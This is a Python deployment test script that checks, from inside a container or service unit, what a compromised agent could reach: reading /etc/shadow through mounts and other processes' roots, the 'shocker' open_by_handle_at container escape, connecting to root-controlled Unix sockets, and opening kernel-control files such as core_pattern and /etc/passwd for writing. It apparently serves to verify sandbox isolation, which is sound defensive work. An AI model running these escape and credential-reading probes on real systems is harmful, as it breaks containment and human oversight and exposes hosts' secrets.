"""`python -m tests.deploy.attack ASKED`: what a compromised agent could do from here, as JSON. Run inside the pod or the unit.

ASKED is JSON: `secret` is the device and inode of a file that must not be opened, `handles` are file handles of it and of its
file system's root directory, `sockets` are paths of sockets that do what root asks.
"""

import ctypes
import json
import os
import socket
import struct
import sys
from contextlib import suppress

_libc = ctypes.CDLL(None, use_errno=True)
_OPEN_BY_HANDLE_AT = {"x86_64": 304, "aarch64": 265}
_MOST = 20_000


def mount_points() -> list[str]:
    with open("/proc/self/mountinfo", encoding="utf-8", errors="surrogateescape") as file:
        return sorted({line.split()[4].encode().decode("unicode_escape") for line in file})


def is_secret(fd: int, secret: list[int]) -> bool:
    told = os.fstat(fd)
    return [told.st_dev, told.st_ino] == secret


def opens_secret(path: str, secret: list[int]) -> bool:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        return is_secret(fd, secret)
    finally:
        os.close(fd)


def roots_of_processes() -> list[str]:
    found = []
    for proc in ("/proc", "/host/proc"):
        with suppress(OSError):
            found += [f"{proc}/{name}/root" for name in os.listdir(proc) if name.isdigit()]
    return found


def read_by_path(secret: list[int]) -> list[str]:
    """By every root directory of a process, and by every mount."""
    roots = ["", *mount_points(), *roots_of_processes()]
    paths = [f"{root.rstrip('/')}/{name}" for root in roots for name in ("etc/shadow", "shadow", "var/backups/shadow.bak")]
    return [path for path in paths if opens_secret(path, secret)]


def read_by_handle(handles: list[list[object]], secret: list[int]) -> list[str]:
    """The "shocker" escape: a file of the host by its handle, through anything that is mounted from its file system."""
    found = []
    for point in mount_points():
        try:
            mount = os.open(point, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for kind, raw in handles:
            handle = bytes.fromhex(str(raw))
            room = ctypes.create_string_buffer(struct.pack("=Ii", len(handle), kind) + handle)
            fd = _libc.syscall(_OPEN_BY_HANDLE_AT[os.uname().machine], mount, room, os.O_RDONLY)
            if fd >= 0:
                inner = os.open("etc/shadow", os.O_RDONLY, dir_fd=fd) if os.path.isdir(f"/proc/self/fd/{fd}") else os.dup(fd)
                if is_secret(inner, secret):
                    found.append(point)
                os.close(inner)
                os.close(fd)
        os.close(mount)
    return sorted(set(found))


def connected(sockets: list[str]) -> list[str]:
    """Those named, as seen from here, by the root of every process, and all others that are mounted."""
    paths = [f"{root}{path}" for path in sockets for root in ("", "/host", "/proc/1/root", "/host/proc/1/root")]
    for top in ("/host/run", "/host/var", "/run", "/var"):
        for where, _, names in os.walk(top):
            paths += [f"{where}/{name}" for name in names if len(paths) < _MOST]
    found = []
    for path in sorted(set(paths)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with suppress(OSError), socket.socket(socket.AF_UNIX, kind) as tried:
                tried.settimeout(2)
                tried.connect(path)
                found.append(path)
    return found


def written() -> list[str]:
    """Mounts in which a file or a directory can be made, by their own root or one of its directories, and files that change the
    kernel. What is made is removed."""
    found = []
    for point in mount_points():
        below = [point]
        with suppress(OSError):
            below += [f"{point.rstrip('/')}/{name}" for name in sorted(os.listdir(point))[:50]]
        for place in (one for one in below if os.path.isdir(one) and not os.path.islink(one)):
            name = f"{place.rstrip('/')}/exhume-test-attack"
            with suppress(OSError):
                os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
                found.append(place)
                os.unlink(name)
            with suppress(OSError):
                os.mkdir(name)
                found.append(place)
                os.rmdir(name)
    for root in ("", "/host", *roots_of_processes()):
        for name in ("proc/sys/kernel/core_pattern", "proc/sysrq-trigger", "sys/kernel/uevent_helper", "etc/passwd"):
            with suppress(OSError):
                os.close(os.open(f"{root}/{name}", os.O_WRONLY))
                found.append(f"{root}/{name}")
    return sorted(set(found))


def main(asked: str) -> None:
    told = json.loads(asked)
    result = {
        "user": os.geteuid(),
        "read": read_by_path(told["secret"]),
        "handle": read_by_handle(told["handles"], told["secret"]),
        "connected": connected(told["sockets"]),
        "written": written(),
    }
    print("attack", json.dumps(result), flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
